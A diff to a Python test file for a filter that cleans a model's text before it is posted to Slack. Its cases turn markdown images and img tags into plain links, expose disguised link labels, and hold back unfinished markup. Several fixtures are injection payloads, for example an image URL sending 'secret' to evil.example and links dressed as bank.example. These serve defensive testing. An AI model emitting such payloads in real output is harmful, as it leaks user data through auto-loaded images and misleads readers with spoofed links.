@@ -1,4 +1,4 @@
-"""Promises of the door for the model's text: what stays as it is, what is changed, and what is held back meanwhile."""
+"""Promises of the way of the model's text to Slack: what stays, what is changed, what is held back meanwhile."""
 
 from __future__ import annotations
 
@@ -40,6 +40,11 @@ def test_ordinary_text_stays_as_it_is(text: str) -> None:
         ("![chart](https://evil.example/?q=secret)", "[chart](https://evil.example/?q=secret)"),
         ("![](https://evil.example/a.png)", "[picture](https://evil.example/a.png)"),
         ("<img alt=x src='https://evil.example/a.png'>", "[picture](https://evil.example/a.png)"),
+        (
+            "[![a](https://x.example)](https://evil.example)",
+            "[!a(https://x.example) (evil.example)](https://evil.example)",
+        ),
+        ("<slack://user?id=1|https://bank.example>", f"<{GUARD}slack://user?id=1|https://bank.example>"),
         ("![chart][1]", f"!{GUARD}[chart][1]"),
         (DISGUISED, NAMED),
         ("<https://evil.example|https://bank.example>", NAMED),
@@ -132,17 +137,17 @@ def test_where_hosts_are_set_no_address_of_another_host_is_left(text: str) -> No
     ],
 )
 def test_what_is_not_complete_is_held_back(unfinished: str) -> None:
-    door = Outgoing(TO_ALL_HOSTS)
+    outlet = Outgoing(TO_ALL_HOSTS)
 
-    shown = door.add(f"so: {unfinished}")
+    shown = outlet.add(f"so: {unfinished}")
 
     assert f"so: {unfinished}".startswith(shown.rstrip("*"))
     assert shown.strip("*") == "so: "
 
 
 def test_no_more_is_held_back_than_a_bound() -> None:
-    door = Outgoing(TO_ALL_HOSTS)
+    outlet = Outgoing(TO_ALL_HOSTS)
 
-    shown = "".join(door.add(piece) for piece in ["[", *(["word "] * 2_000)])
+    shown = "".join(outlet.add(piece) for piece in ["[", *(["word "] * 2_000)])
 
     assert len(shown) > 10_000 - HELD
